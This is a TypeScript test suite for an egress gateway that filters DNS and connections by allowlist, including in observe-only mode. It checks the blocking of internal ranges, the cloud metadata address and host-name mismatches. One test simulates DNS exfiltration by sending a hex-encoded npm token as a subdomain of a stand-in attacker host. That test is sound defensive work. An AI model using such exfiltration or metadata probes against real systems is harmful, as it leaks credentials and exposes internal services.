import { createServer, type Server, type Socket } from 'node:net';
import { afterEach, beforeEach, describe, expect, test } from 'vitest';
import { parseAllowlist } from './allowlist.ts';
import type { EgressPolicy, Gateway, GatewayEvent } from './contract.ts';
import { startGateway } from './gateway.ts';
import { inside } from './gateway.fixture.ts';

const RANGES = ['127.0.0.0/8'];
let server: Server;
let port = 0;
let gateway: Gateway | undefined;
let events: GatewayEvent[] = [];

beforeEach(async () => {
  events = [];
  server = createServer((socket: Socket) => {
    socket.on('error', () => undefined);
    socket.on('data', () => socket.end('HTTP/1.1 200 OK\r\nConnection: close\r\n\r\nhello'));
  });
  await new Promise<void>((resolve) => server.listen(0, '127.0.0.1', resolve));
  const at = server.address();
  port = typeof at === 'object' && at !== null ? at.port : 0;
});
afterEach(async () => {
  await gateway?.close();
  gateway = undefined;
  server.close();
});

function policy(observe: boolean, ...entries: readonly string[]): EgressPolicy {
  const allow = parseAllowlist(entries, {});
  if (!allow.ok) throw new Error(allow.error.why);
  return { allow: allow.value, allowRanges: RANGES, ...(observe && { observe }) };
}

/** A gateway that finds the names of two public hosts, and of one that leads inside, on this machine. */
async function open(observe: boolean, ...entries: readonly string[]): Promise<Gateway> {
  const addresses = {
    'listed.test': ['127.0.0.1'],
    'other.test': ['127.0.0.1'],
    'inside.test': ['10.0.0.1'],
    'meta.test': ['169.254.169.254'],
  };
  const opened = await startGateway({
    policy: policy(observe, ...entries),
    resolver: { kind: 'static', addresses },
    record: async (event) => void events.push(event),
  }).armed;
  if (!opened.ok) throw new Error(opened.error.why);
  gateway = opened.value;
  return opened.value;
}

const ask = (name: string, host = name): string =>
  `print(attempt(lambda: get(ask('${name}'), ${port}, 'GET / HTTP/1.1\\r\\nHost: ${host}:${port}\\r\\n\\r\\n'))[-60:])`;

const told = (): readonly unknown[] =>
  events.flatMap((event) =>
    event.kind === 'connect'
      ? [[event.host ?? event.address, event.verdict, event.entry ?? event.wouldDeny ?? event.reason]]
      : [],
  );

describe('a network that is only observed', () => {
  test('lets through what is not on the list and tells it as what would be denied; without, it is denied', async () => {
    const of = await open(true, `listed.test:${port}`);
    expect(await inside(of, `${ask('listed.test')}\n${ask('other.test')}`)).toMatch(/hello\n.*hello/s);
    expect(told()).toEqual([
      ['listed.test', 'allowed', `listed.test:${port}`],
      ['other.test', 'allowed', 'not-on-allowlist'],
    ]);
    const questions = events.filter((event) => event.kind === 'dns');
    expect(questions).toMatchObject([
      { name: 'listed.test', verdict: 'allowed' },
      { name: 'other.test', verdict: 'allowed', wouldDeny: 'not-on-allowlist' },
    ]);
    expect('wouldDeny' in (questions[0] ?? {})).toBe(false);
    await gateway?.close();
    events = [];
    const held = await open(false, `listed.test:${port}`);
    expect(await inside(held, `print(ask('other.test'))`)).toBe('code 3 answers 0');
  });

  test('still refuses what leads inside, another name than was asked for, and addresses without a name', async () => {
    const of = await open(true, `listed.test:${port}`);
    await inside(
      of,
      `
for name in ['inside.test', 'meta.test']: attempt(lambda: get(ask(name), ${port}, 'GET / HTTP/1.1\\r\\nHost: %s:${port}\\r\\n\\r\\n' % name))
${ask('other.test', 'listed.test')}
for address in ['203.0.113.9', '169.254.169.254', '10.0.0.1']: attempt(lambda: get(address, 80, 'GET / HTTP/1.1\\r\\nHost: x.test\\r\\n\\r\\n'))
`,
    );
    expect(told()).toEqual([
      ['inside.test', 'denied', 'forbidden-range'],
      ['meta.test', 'denied', 'forbidden-range'],
      ['other.test', 'denied', 'name-mismatch'],
      ['203.0.113.9', 'denied', 'address-without-name'],
      ['169.254.169.254', 'denied', 'forbidden-range'],
      ['10.0.0.1', 'denied', 'forbidden-range'],
    ]);
  });

  test('answers no name that carries data as names do not', async () => {
    const of = await open(true);
    const data = '6e706d5f746f6b656e3d616263643132333435363738393031323334353637';
    const out = await inside(
      of,
      `print(ask('${data}.evil.test'), ask('a.b.c.d.e.f.evil.test'), ask('plain.evil.test').startswith('code'))`,
    );
    expect(out).toMatch(/^code \d answers 0 code \d answers 0 False$/);
    const many = await inside(
      of,
      `print(sum(not ask('n%d.evil.test' % n).startswith('code') for n in range(400)))`,
    );
    expect(Number(many)).toBeLessThanOrEqual(256);
  });

  test('is held to its list as soon as the policy says so, with what is open; and never the other way', async () => {
    const of = await open(true, `listed.test:${port}`);
    expect(await of.narrow(policy(false, `listed.test:${port}`))).toMatchObject({ closed: ['observe'] });
    expect(await inside(of, `print(ask('other.test'))`)).toBe('code 3 answers 0');
    expect(await of.narrow(policy(true, `listed.test:${port}`))).toMatchObject({ notGiven: ['observe'] });
    expect(await inside(of, `print(ask('other.test'))`)).toBe('code 3 answers 0');
  });
});
